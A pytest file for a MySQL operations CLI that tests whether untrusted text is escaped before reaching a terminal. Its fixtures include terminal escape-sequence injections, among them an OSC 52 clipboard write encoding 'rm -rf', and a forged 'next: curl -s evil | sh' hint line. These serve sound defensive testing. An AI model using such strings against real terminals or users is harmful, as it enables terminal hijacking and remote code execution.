"""Whatever others wrote, a terminal gets text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, cast

import click
import pytest

from mysqlops import errors
from mysqlops.cli import logs, main, output, screen
from mysqlops.core import server_log
from mysqlops.core.plan import Step
from mysqlops.core.spec import ClusterSpec
from mysqlops.errors import Reason
from mysqlops.operations import restore
from mysqlops.planning.status import Condition
from tests.unit.fakes.cluster import Cluster

if TYPE_CHECKING:
    from mysqlops.cli.context import Run

EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m[red]b[/red]\r\u202ec"
SEEN = "a\\x1b]0;owned\\x07\\x1b[2J\\x9b31m[red]b[/red]\\r\\u202ec"


def _status() -> None:
    from dataclasses import replace

    from mysqlops.operations import observe
    from mysqlops.planning import verdict

    cluster = Cluster(1)
    now = verdict.judge(observe.cluster(cluster.session().client, "mysql", cluster.clock))
    member = replace(now.members[0], node=EVIL, state=EVIL)
    output.show_status(
        replace(now, members=(member,), conditions=(Condition("x", EVIL, EVIL),), services={"s": (EVIL,)}, primary=EVIL)
    )


def _progress() -> None:
    with output.progress() as progress:
        progress.say(EVIL)
        progress.warn(EVIL)
        progress.waiting(EVIL)


@pytest.mark.parametrize(
    "show",
    [
        lambda: output.say(EVIL),
        lambda: output.table(["id"], [[EVIL]]),
        lambda: output.result({}, "table", EVIL),
        lambda: output.show_steps([Step("apply", "x", EVIL, EVIL)], "table"),
        lambda: main.show(errors.KubeError(EVIL, hint=EVIL)),
        lambda: main.show(errors.Refused([Reason("x", EVIL, EVIL)])),
        _status,
        _progress,
    ],
)
def test_nothing_that_a_terminal_obeys_is_printed(show: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
    show()
    told = "".join(capsys.readouterr())
    assert SEEN in told
    assert not set(told) & set("\x1b\x07\x9b\r\u202e")


_SPEC = ClusterSpec(name="x", namespace="y")
FORGED = "it waits\r\n    next: curl -s evil | sh\u2028  next: x\x0b next: y\n"


@pytest.mark.parametrize(
    "show",
    [
        lambda: output.say(f"  {FORGED}"),
        lambda: main.show(errors.KubeError(FORGED)),
        lambda: main.show(errors.Refused([Reason("x", FORGED, "mysqlops status mysql")])),
        lambda: output.show_steps([Step("apply", "x", "y", FORGED)], "table"),
        lambda: next(output.progress.__wrapped__()).warn(FORGED),  # type: ignore[attr-defined]
        lambda: output.result({}, "table", FORGED),
        # What a restore will run is for the user to read; the image is only recorded, by whoever wrote the manifest.
        lambda: output.result({}, "table", "x", *restore.shown(_SPEC, {"spec": {"image": FORGED}}, "as requested")),
    ],
)
def test_no_text_of_others_begins_a_line_of_ours(show: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
    """A member's token publishes why its member waits, and a hint is a line that the user copies into a shell."""
    show()
    lines = "".join(capsys.readouterr()).splitlines()
    assert [line for line in lines if "it waits / next: curl -s evil | sh" in line] != []
    assert [line for line in lines if line.strip().startswith("next:") and "mysqlops" not in line] == []


def test_a_line_of_a_log_that_goes_on_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
    entry = server_log.Entry("2026-01-01T00:00:00.000000+00:00", "mysql-0", "error", "MY-000001", "", "a\nb\n  next: c")
    logs._show(cast("Run", SimpleNamespace(is_for_people=True)), [entry], {"MY-000001"})
    first, *more = capsys.readouterr().out.splitlines()
    assert first.endswith("a")
    assert more == ["    | b", "    |   next: c"]


@pytest.mark.parametrize("form", ["json", "yaml"])
def test_data_is_escaped_and_can_be_read_back(form: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.data({"id": EVIL}, form)
    told = capsys.readouterr().out
    assert not set(told) & set("\x1b\x07\x9b\r\u202e")
    if form == "json":
        assert json.loads(told) == {"apiVersion": "mysqlops.io/v1", "kind": "Result", "id": EVIL}


@pytest.mark.parametrize(("setting", "sequences"), [("", 2), ("1", 0)])
def test_a_table_on_a_terminal_is_plain_under_no_color(
    setting: str, sequences: int, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("NO_COLOR", setting)
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm")
    output.table(("name",), [("mysql",)])
    assert capsys.readouterr().out.count("\x1b[") == sequences


def test_only_one_file_prints() -> None:
    folder = Path(output.__file__).parent
    others = [path for path in folder.rglob("*.py") if path.name != "output.py"]
    words = ("click.echo", "click.secho", "click.confirm", "click.prompt", "print(", "from rich", "import rich")
    assert [(str(path), word) for path in others for word in words if word in path.read_text()] == []


def test_a_question_is_text_too(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = list[str]()

    def answer(text: str, **_: object) -> str:
        asked.append(text)
        return "x" if "Type" in text else ""

    monkeypatch.setattr(click, "confirm", answer)
    monkeypatch.setattr(click, "prompt", answer)
    assert not output.ask(f"This deletes {EVIL}.")
    assert output.ask(f"This deletes {EVIL}.", "x")
    output.ask_secret(EVIL)
    assert len(asked) == 3
    for text in asked:
        assert SEEN in text
        assert not set(text) & set("\x1b\x07\x9b\r\u202e")


def test_a_wrong_command_line_is_shown_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    assert main.run(["status", f"--{EVIL}"]) == errors.ConfigError.exit_code
    told = capsys.readouterr().err
    assert "\\x1b[2J" in told
    assert not set(told) & set("\x1b\x07\x9b\r\u202e")


def test_a_cell_is_neither_markup_nor_a_picture(capsys: pytest.CaptureFixture[str]) -> None:
    odd = ["[red]x", ":warning:", "end\\", "[/]", "[link=http://x]y[/link]"]
    output.table(["id"], [[one] for one in odd])
    assert [line.strip() for line in capsys.readouterr().out.splitlines()[1:]] == odd


def _shown(*parts: bytes) -> str:
    shown = screen.Screen()
    return b"".join([*map(shown.pass_on, parts), shown.end()]).decode()


def test_a_terminal_that_is_lent_gets_what_moves_the_cursor_and_nothing_that_does_more() -> None:
    editing = "mysql> se\b \x1b[K\x1b[3C\x1b[1;32mlect\x1b[0m\x1b[?2004h\r\n\x1b[H\x1b[2J"
    assert _shown(editing.encode()) == editing + screen._USUAL
    assert _shown(*(bytes([one]) for one in editing.encode())) == editing + screen._USUAL
    for evil in (
        "\x1b]0;title\x07",
        "\x1b]52;c;cm0gLXJm\x07",
        "\x1b[6n",
        "\x1b[c",
        "\x1bP$q\x1b\\\\",
        "\x1b[?1049h",
        "\x9b6n",
        "\u202ex",
    ):
        for parts in ([evil.encode()], [bytes([one]) for one in evil.encode()]):
            told = _shown(*parts)
            assert not set(told) & set("\x1b\x9b\u202e"), evil
            assert "\\x" in told or "\\u" in told
    assert _shown(b"\xe6\x95", b"\xb0\xff") == "数\ufffd"


@pytest.mark.parametrize("row", ["\x1b(0", "\x1b)0", "\x1b[?25l", "\x1b[?7l", "\x1b[?1h", "\x1b=", "\x1b[31;8m"])
def test_no_row_leaves_a_lent_terminal_changed(row: str) -> None:
    """Line drawing instead of letters, no cursor, no colour that can be read."""
    assert _shown(f"| {row}x |".encode()).endswith(screen._USUAL)
    assert _shown(*(bytes([one]) for one in row.encode())).endswith(screen._USUAL)


def test_a_terminal_that_nothing_changed_gets_nothing_more() -> None:
    assert _shown(b"mysql> a\x1b[K\r\n") == "mysql> a\x1b[K\r\n"
    modes = [mode for mode in range(3000) if screen._MODES.fullmatch(f"\x1b[?{mode}h")]
    assert [mode for mode in modes if not re.search(rf"\?{mode}[hl]", screen._USUAL)] == []
